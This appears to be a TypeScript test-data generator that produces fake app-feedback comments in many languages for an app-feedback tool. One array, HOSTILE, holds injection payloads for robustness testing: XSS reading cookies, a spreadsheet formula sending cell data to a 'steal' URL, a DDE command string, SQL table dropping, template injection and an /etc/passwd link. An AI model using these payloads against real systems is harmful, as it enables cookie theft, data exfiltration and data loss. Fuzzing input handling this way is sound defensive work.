import type { Topic } from '../brands';
import type { Random } from '../prng';

export type FeedbackKind = 'crash' | 'screenshot';

/** Complaints that any app gets, by language; several say the same thing in other words. */
const GENERAL: Record<string, readonly string[]> = {
  en: [
    'The save button does nothing on the second tap.',
    'Save button doesnt do anything the second time I tap it',
    'Tapping save twice - second tap is ignored. Every time.',
    'Text is cut off when I use the largest Dynamic Type size.',
    'Large text setting: labels overlap and the last row cannot be reached.',
    'Dark mode: grey on grey in Settings, cannot read the footer.',
    'After the update I had to sign in again. Twice.',
    'logged out again after updating',
    'Scrolling stutters on the main list since this build.',
    'The list jumps back to the top whenever I come back from a detail page.',
    'VoiceOver reads "button" for every icon in the toolbar.',
    'Love the new layout! One thing: the back swipe is gone.',
    'Offline: spinner forever, no message. Airplane mode, reproducible.',
    'Spinner never ends without network',
    'Landscape on iPad hides the toolbar.',
    'Notification opens the app but not the item it was about.',
  ],
  de: [
    'Der Speichern-Knopf reagiert beim zweiten Tippen nicht.',
    'Im Dunkelmodus ist der Text in den Einstellungen kaum lesbar.',
    'Nach dem Update musste ich mich wieder anmelden.',
    'Ohne Netz dreht sich das Rädchen ewig, keine Meldung.',
    'Die Übersetzung „Schließen“ passt nicht in den Knopf.',
  ],
  fr: [
    'Le bouton Enregistrer ne réagit pas au deuxième appui.',
    'En mode sombre, le texte des réglages est illisible.',
    'Déconnecté après la mise à jour, encore une fois.',
  ],
  es: [
    'El botón Guardar no responde la segunda vez.',
    'Sin conexión se queda cargando para siempre.',
    '¡Me encanta! Pero el texto grande se corta.',
  ],
  pt: ['O botão Salvar não funciona no segundo toque.', 'Sem internet fica carregando para sempre.'],
  it: [
    'Il pulsante Salva non risponde al secondo tocco.',
    'In modalità scura non si legge nulla nelle impostazioni.',
  ],
  nl: ['De opslaanknop doet niets bij de tweede keer tikken.'],
  sv: ['Spara-knappen gör ingenting vid andra trycket.', 'Texten klipps av med största textstorleken.'],
  tr: ['Kaydet düğmesi ikinci dokunuşta çalışmıyor.'],
  ja: [
    '保存ボタンを二回目に押しても反応しません。',
    'ダークモードで設定画面の文字が読めません。',
    'アップデート後に再ログインが必要でした。',
  ],
  ko: ['저장 버튼을 두 번째 누르면 반응이 없어요.', '다크 모드에서 글자가 안 보입니다.'],
  'zh-Hans': ['第二次点击保存按钮没有反应。', '深色模式下设置页的文字看不清。', '更新之后又要重新登录。'],
  'zh-Hant': ['第二次點儲存按鈕沒有反應。', '沒有網路時一直轉圈，沒有任何訊息。'],
  ru: ['Кнопка «Сохранить» не реагирует на второе нажатие.', 'В тёмной теме не виден текст в настройках.'],
  uk: ['Після оновлення довелося знову входити.', 'Кнопка «Зберегти» не працює з другого разу.'],
  el: ['Το κουμπί αποθήκευσης δεν ανταποκρίνεται στο δεύτερο πάτημα.'],
  ar: ['زر الحفظ لا يستجيب عند الضغط للمرة الثانية.', 'النص غير مقروء في الوضع الداكن.'],
  he: ['כפתור השמירה לא מגיב בלחיצה השנייה.', 'בלי רשת הגלגל מסתובב לנצח.'],
  hi: ['सेव बटन दूसरी बार दबाने पर काम नहीं करता।', 'डार्क मोड में सेटिंग्स पढ़ी नहीं जातीं।'],
  th: ['ปุ่มบันทึกไม่ทำงานเมื่อกดครั้งที่สอง', 'โหมดมืดอ่านตัวหนังสือไม่ออก'],
};

const BY_TOPIC: Record<Topic, readonly string[]> = {
  transit: [
    'Departures for line 12 show yesterday’s times.',
    'Line 12 departures are from yesterday!!',
    'The map does not follow me while I walk to the stop.',
  ],
  recipes: [
    'Doubling the servings leaves the salt as it was.',
    'Salt isnt doubled when I double servings',
    'The timer stops when the screen locks.',
  ],
  money: [
    'The monthly total is off by one cent against the bank.',
    'Total is 0.01 off',
    'CSV export swaps day and month.',
  ],
  fitness: [
    'Heart rate freezes after about ten minutes.',
    'HR stuck after 10 min',
    'The route has a straight line through a lake.',
  ],
  notes: [
    'Pasting a table from the web loses every second row.',
    'Handwriting lags behind the pencil.',
    'Pencil lag, very noticeable',
  ],
  weather: ['It says sunny. It is hailing.', 'The widget is three hours behind the app.', 'widget 3h behind'],
  music: [
    'Playback stops between tracks on AirPlay.',
    'AirPlay: silence between tracks then stops',
    'Shuffle played the same song four times.',
  ],
  language: [
    'The speech exercise does not hear my microphone.',
    'Mic not recognised in speaking exercise',
    'Streak lost after crossing a time zone.',
  ],
  plants: [
    'It calls my monstera a fern.',
    'Watering reminders arrive at 3 am.',
    'Reminder at 3AM, please no',
  ],
  photo: [
    'Export loses the location.',
    'GPS data missing after export',
    'Cropping a panorama shows the wrong corner.',
  ],
};

const ON_CRASH: readonly string[] = [
  'Crashed right after launch.',
  'crash on launch',
  'It just closed.',
  'Crash when I rotate the phone while the sheet is open.',
  'Closed itself when I came back from the camera.',
  'Absturz beim Öffnen',
  '起動直後に落ちます',
  'Вылетает при запуске',
  'Plantage au démarrage',
  '열자마자 종료됩니다',
  '一打开就闪退',
];

/** Text that breaks careless programs. No comment is to be trusted. */
const HOSTILE: readonly string[] = [
  '<script>alert("feedback")</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  '=HYPERLINK("https://example.org/steal?x="&A1,"Click me")',
  '+1 for dark mode\t\t@cmd|calc',
  'bell \u0007 escape \u001B[31mred\u001B[0m and a form feed \u000C end',
  '\u202Ereversed from here on',
  'zero\u200Bwidth\u200Cspaces\u200D inside\uFEFF',
  'Line one\r\nLine two\n\n\nLine five',
  "'; DROP TABLE feedback; --",
  '{{7*7}} $(7*7) <%= 7*7 %> #{7*7}',
  '🧨💥👩‍👩‍👧‍👦🏳️‍🌈 ️⃣ 1️⃣',
  '＝１＋１',
  'javascript:alert(1) file:///etc/passwd https://example.com/%00',
];

const FILLER = [
  'I opened the app from the home screen and waited for it to load completely.',
  'Then I went to the second tab and pulled down to refresh.',
  'At first everything looked right, but the numbers at the top did not change.',
  'I killed the app and tried again with the same result.',
  'It did not happen with the previous build, I am fairly sure of that.',
  'My colleague on the same network does not see this.',
  'Sorry for the long text, I hope it helps!',
];

function languageOf(locale: string): string {
  const [language = 'en', script] = locale.split('-');
  return language === 'zh' ? `zh-${script === 'Hant' ? 'Hant' : 'Hans'}` : language;
}

function longReport(random: Random): string {
  const parts = Array.from({ length: random.between(6, 40) }, () => random.pick(FILLER));
  return `Steps:\n${parts.map((part, i) => `${i + 1}. ${part}`).join('\n')}`;
}

/** What a tester wrote; null or empty for those who wrote nothing. */
export function commentFor(kind: FeedbackKind, topic: Topic, locale: string, random: Random): string | null {
  const silence = kind === 'crash' ? 0.42 : 0.08;
  if (random.chance(silence)) return random.chance(0.7) ? null : '';
  if (random.chance(0.035)) return random.pick(HOSTILE);
  if (random.chance(0.04)) return longReport(random);
  if (kind === 'crash' && random.chance(0.6)) return random.pick(ON_CRASH);
  const own = GENERAL[languageOf(locale)] ?? GENERAL.en ?? [];
  if (languageOf(locale) === 'en' && random.chance(0.4)) return random.pick(BY_TOPIC[topic]);
  return random.pick(own);
}
